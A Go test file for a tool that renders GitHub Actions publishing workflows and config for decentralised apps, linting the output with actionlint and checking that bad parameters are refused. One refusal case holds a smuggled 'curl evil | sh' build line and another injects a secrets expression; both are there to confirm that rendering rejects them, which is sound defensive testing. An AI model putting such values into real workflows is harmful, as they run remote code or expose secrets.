package templates_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/dapp-publish/dapp-publish/internal/config"
	"github.com/dapp-publish/dapp-publish/pin/all"
	"github.com/dapp-publish/dapp-publish/templates"
	"github.com/goccy/go-yaml"
	"github.com/rhysd/actionlint"
)

const action = "dapp-publish/dapp-publish@v1"

// variants are the choices init offers, each rendered and checked.
var variants = map[string]templates.Params{
	"every provider, safe, fork previews": {
		Site: "web/dist", Build: "npm ci && npm run build", Node: "20", Branch: "main", Action: action, Environment: "ens",
		Providers: templates.Types(), ENS: &templates.ENS{Name: "app.eth", Via: "safe", Safe: "0x5FbDB2315678afecb367f032d93F642f64180aa3", ChainID: 1},
		ForkPreviews: true, MaxPreviewCAR: "512MiB",
	},
	"key": {
		Site: "dist", Build: "pnpm install && pnpm build", Node: "22", Branch: "release", Action: action, Environment: "production",
		Providers: []string{"pinata", "cluster"}, ENS: &templates.ENS{Name: "dapp.eth", Via: "key", ChainID: 11155111},
		ForkPreviews: true, MaxPreviewCAR: "1GiB",
	},
	"calldata, committed site": {
		Site: "public", Branch: "main", Action: action, Environment: "ens",
		Providers: []string{"kubo", "psa"}, ENS: &templates.ENS{Name: "x.eth", Via: "calldata", ChainID: 1}, ForkPreviews: true, MaxPreviewCAR: "64MiB",
	},
	"no name, no fork previews": {
		Site: "dist", Build: "make site", Branch: "main", Action: action, Providers: []string{"filebase"},
	},
}

// TestWorkflowsPassActionlint lints every workflow template, rendered with
// each variant, and action.yml, with actionlint (rhysd/actionlint v1.7.12,
// and shellcheck on every run: script when it is installed). The workflows
// use the action as `uses: ./` of a repository holding this action.yml, so
// actionlint also checks every input they pass and every output they read
// against action.yml. action.yml's own steps are linted as the job of a
// reusable workflow whose inputs are the action's.
func TestWorkflowsPassActionlint(t *testing.T) {
	for name, p := range variants {
		t.Run(name, func(t *testing.T) {
			root := lintRepo(t, p)
			if errs := lint(t, root); len(errs) > 0 {
				t.Errorf("actionlint:\n%s", strings.Join(errs, "\n"))
			}
		})
	}
}

// The linter is not a formality: a workflow that reads an output the
// action does not have, passes an input it does not take, or a shell
// script with an unquoted variable fails.
func TestActionlintCatchesMistakes(t *testing.T) {
	root := lintRepo(t, variants["key"])
	path := filepath.Join(root, filepath.FromSlash(templates.PublishPath))
	data, _ := os.ReadFile(path)
	broken := strings.Replace(string(data), "steps.publish.outputs.cid", "steps.publish.outputs.root-cid", 1)
	broken = strings.Replace(broken, "directory: \"dist\"", "directory: \"dist\"\n          folder: dist", 1)
	os.WriteFile(path, []byte(broken), 0o644)
	errs := strings.Join(lint(t, root), "\n")
	for _, want := range []string{`"root-cid"`, `"folder"`} {
		if !strings.Contains(errs, want) {
			t.Errorf("actionlint did not report %s:\n%s", want, errs)
		}
	}
}

// lintRepo is a repository holding action.yml, the rendered workflows
// (using the action as ./) and action.yml's steps as a workflow.
func lintRepo(t *testing.T, p templates.Params) string {
	t.Helper()
	root := t.TempDir()
	for _, d := range []string{".git", ".github/workflows"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	meta, err := os.ReadFile("../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(root, "action.yml"), meta, 0o644)
	files, err := templates.Render(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if !strings.HasPrefix(f.Path, ".github/workflows/") {
			continue
		}
		data := bytes.ReplaceAll(f.Data, []byte("uses: "+p.Action), []byte("uses: ./"))
		os.WriteFile(filepath.Join(root, filepath.FromSlash(f.Path)), data, 0o644)
	}
	os.WriteFile(filepath.Join(root, ".github/workflows/action-steps.yml"), actionAsWorkflow(t, meta), 0o644)
	return root
}

// actionAsWorkflow turns a composite action's steps into the job of a
// reusable workflow with the action's inputs, which actionlint checks like
// any workflow (expressions, step ids, the actions they use, shell scripts).
func actionAsWorkflow(t *testing.T, meta []byte) []byte {
	t.Helper()
	var a struct {
		Inputs map[string]any `yaml:"inputs"`
		Runs   struct {
			Using string `yaml:"using"`
			Steps []any  `yaml:"steps"`
		} `yaml:"runs"`
	}
	if err := yaml.Unmarshal(meta, &a); err != nil {
		t.Fatalf("action.yml: %v", err)
	}
	if a.Runs.Using != "composite" || len(a.Runs.Steps) == 0 {
		t.Fatalf("action.yml is not a composite action with steps")
	}
	inputs := map[string]any{}
	for name := range a.Inputs {
		inputs[name] = map[string]any{"type": "string", "required": false}
	}
	wf := map[string]any{
		"name": "action.yml's steps",
		"on":   map[string]any{"workflow_call": map[string]any{"inputs": inputs}},
		"jobs": map[string]any{"action": map[string]any{"runs-on": "ubuntu-latest", "steps": a.Runs.Steps}},
	}
	out, err := yaml.Marshal(wf)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func lint(t *testing.T, root string) []string {
	t.Helper()
	opts := &actionlint.LinterOptions{WorkingDir: root}
	if sc, err := exec.LookPath("shellcheck"); err == nil {
		opts.Shellcheck = sc
	} else if os.Getenv("DAPP_PUBLISH_REQUIRE_PEERS") == "1" {
		t.Fatal("shellcheck is not installed (make test installs Debian's)")
	} else {
		t.Log("shellcheck is not installed: run: scripts are not checked")
	}
	var out bytes.Buffer
	l, err := actionlint.NewLinter(&out, opts)
	if err != nil {
		t.Fatal(err)
	}
	errs, err := l.LintRepository(root)
	if err != nil {
		t.Fatal(err)
	}
	var msgs []string
	for _, e := range errs {
		msgs = append(msgs, fmt.Sprintf("%s:%d:%d: %s [%s]", filepath.Base(e.Filepath), e.Line, e.Column, e.Message, e.Kind))
	}
	return msgs
}

// TestConfigTemplateLoads: the config init writes is valid for every
// variant, with the variables the workflows pass set.
func TestConfigTemplateLoads(t *testing.T) {
	for name, p := range variants {
		t.Run(name, func(t *testing.T) {
			files, err := templates.Render(p)
			if err != nil {
				t.Fatal(err)
			}
			cfg := files[0]
			if cfg.Path != templates.ConfigPath {
				t.Fatalf("first file %s", cfg.Path)
			}
			names := envNames(cfg.Data)
			env := func(k string) (string, bool) {
				if !slices.Contains(names, k) {
					return "", false
				}
				if strings.HasSuffix(k, "_URL") || k == "PSA_ENDPOINT" {
					return "https://" + strings.ToLower(k) + ".example", true
				}
				if strings.HasSuffix(k, "_KEY") && strings.HasPrefix(k, "FILECOIN") {
					return "0x" + strings.Repeat("ab", 32), true
				}
				return "value-of-" + k, true
			}
			path := filepath.Join(t.TempDir(), "dapp-publish.yaml")
			c, err := config.Parse(path, cfg.Data, config.Options{Registry: all.Registry(), LookupEnv: env})
			if err != nil {
				t.Fatalf("%v\n%s", err, cfg.Data)
			}
			if len(c.Providers) != len(p.Providers) || c.Site != p.Site || (c.ENS != nil) != (p.ENS != nil) {
				t.Errorf("loaded %d providers, site %q, ens %v", len(c.Providers), c.Site, c.ENS != nil)
			}
			// Every ${VAR} the config reads is passed by the publishing
			// workflow; the preview ones pass no secret of the name.
			secrets, vars := templates.Secrets(p)
			passed := append(secrets, vars...)
			for _, n := range names {
				if !slices.Contains(passed, n) && !slices.ContainsFunc(passed, func(s string) bool { return "DAPP_PUBLISH_"+s == n }) {
					t.Errorf("the config reads ${%s}, which no workflow passes", n)
				}
			}
			for _, f := range files {
				if strings.Contains(f.Path, "preview") && (bytes.Contains(f.Data, []byte("ENS_KEY")) || bytes.Contains(f.Data, []byte("FILECOIN_KEY"))) {
					t.Errorf("%s passes a secret that spends or names", f.Path)
				}
			}
		})
	}
}

var envRef = regexp.MustCompile(`\$\{([A-Z0-9_]+)\}`)

func envNames(data []byte) []string {
	var out []string
	for _, line := range strings.Split(string(data), "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "#") {
			continue
		}
		for _, m := range envRef.FindAllStringSubmatch(line, -1) {
			out = append(out, m[1])
		}
	}
	return out
}

func TestRenderRefuses(t *testing.T) {
	base := variants["key"]
	for name, mod := range map[string]func(*templates.Params){
		"unknown provider":     func(p *templates.Params) { p.Providers = []string{"dropbox"} },
		"provider twice":       func(p *templates.Params) { p.Providers = []string{"pinata", "pinata"} },
		"previews that spend":  func(p *templates.Params) { p.Providers = []string{"filecoin"} },
		"multi-line build":     func(p *templates.Params) { p.Build = "npm ci\ncurl evil | sh" },
		"an expression":        func(p *templates.Params) { p.Site = "${{ secrets.ENS_KEY }}" },
		"safe without address": func(p *templates.Params) { p.ENS = &templates.ENS{Name: "a.eth", Via: "safe"} },
		"unknown via":          func(p *templates.Params) { p.ENS = &templates.ENS{Name: "a.eth", Via: "ledger"} },
		"action without ref":   func(p *templates.Params) { p.Action = "dapp-publish/dapp-publish" },
	} {
		p := base
		mod(&p)
		if _, err := templates.Render(p); err == nil {
			t.Errorf("%s: rendered", name)
		}
	}
}
